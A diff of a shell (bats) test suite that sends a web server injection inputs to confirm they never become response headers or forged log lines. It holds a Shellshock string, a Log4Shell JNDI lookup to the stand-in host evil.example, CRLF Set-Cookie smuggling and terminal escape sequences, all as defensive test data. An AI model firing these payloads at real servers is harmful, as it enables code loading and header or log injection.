@@ -399,14 +399,18 @@ END
 @test "nothing of a client's text becomes a header, or a line of a log" {
   local first='{"username":"a\r\n2026-11-21T09:01:34Z info root@example.org","password":"a bicycle for 7"}'
   local second='{"username":"\u001b[2Jx@example.org","password":"a bicycle for 7"}'
+  # A control character in a header is refused by the front, and what nginx lets pass by the
+  # worker; but not in one that nginx hands to nobody.
   wire P='POST /login HTTP/1.1~Host: localhost~Content-Type: application/json~Content-Length: ' \
     FIRST="${#first}~~${first//\\/\\\\}" SECOND="${#second}~~${second//\\/\\\\}" <<'END'
 400/nginx:200 | GET /health HTTP/1.1~{H}~User-Agent: \e[31mred\x07\x1b]0;t\x07~~
 200 | GET /health HTTP/1.1~{H}~User-Agent: () { :; }; echo "x" ${jndi:ldap://evil.example/a}~~
-400/nginx:200 | GET /health HTTP/1.1~{H}~X-Request-ID: a\e[2Jb~~ | !\x1b
+400 | GET /health HTTP/1.1~{H}~X-Request-ID: a\e[2Jb~~ | !\x1b
 200 | GET /health HTTP/1.1~{H}~X-Request-ID: a%0d%0aSet-Cookie: x=1~~ | !Set-Cookie
 200 | GET /health HTTP/1.1~{H}~X-Request-ID: a\xe2\x80\xa8b~~
-400/nginx:401 | GET /models HTTP/1.1~{H}~X-API-Key: a\e[2Jb~~
+400 | GET /models HTTP/1.1~{H}~X-API-Key: a\e[2Jb~~
+400 | GET /health HTTP/1.1~{H}~X-A: a\x7fb~~
+200 | GET /health HTTP/1.1~{H}~X-A: a\tb~~
 401 | GET /models HTTP/1.1~{H}~X-API-Key: a" 200 "b~~
 404 | GET /%0d%0aSet-Cookie:%20x=1 HTTP/1.1~{H}~~ | !^Set-Cookie
 404 | GET /a%0a2026-11-21T09:01:34.575Z%20info%20127.0.0.1%20POST HTTP/1.1~{H}~~
@@ -417,7 +421,7 @@ END
 400 | GET /health?\e[31m HTTP/1.1~{H}~~
 401 | {P}{FIRST}
 401 | {P}{SECOND}
-501/apache:400/nginx:405 | BREW /models HTTP/1.1~{H}~X-API-Key: x~Referer: \e[2J~~
+400/lighttpd:501 | BREW /models HTTP/1.1~{H}~X-API-Key: x~Referer: \e[2J~~
 END
 }
 
@@ -666,8 +670,6 @@ handshake() {
   each_has referrer-policy strict-origin-when-cross-origin
 }
 @test "Content-Security-Policy: nothing at all" {
-  # lighttpd goes by the path, and so what is no page of / has the page's policy.
-  if [ "$MODE" = lighttpd-socket ]; then sed -i "/\"path\": \"\/\"/s/default-src 'none'; style-src 'self';/default-src 'none';/" "$T/seen"; fi
   each_has content-security-policy "default-src 'none'; form-action 'none'; base-uri 'none'; frame-ancestors 'none'"
 }
 
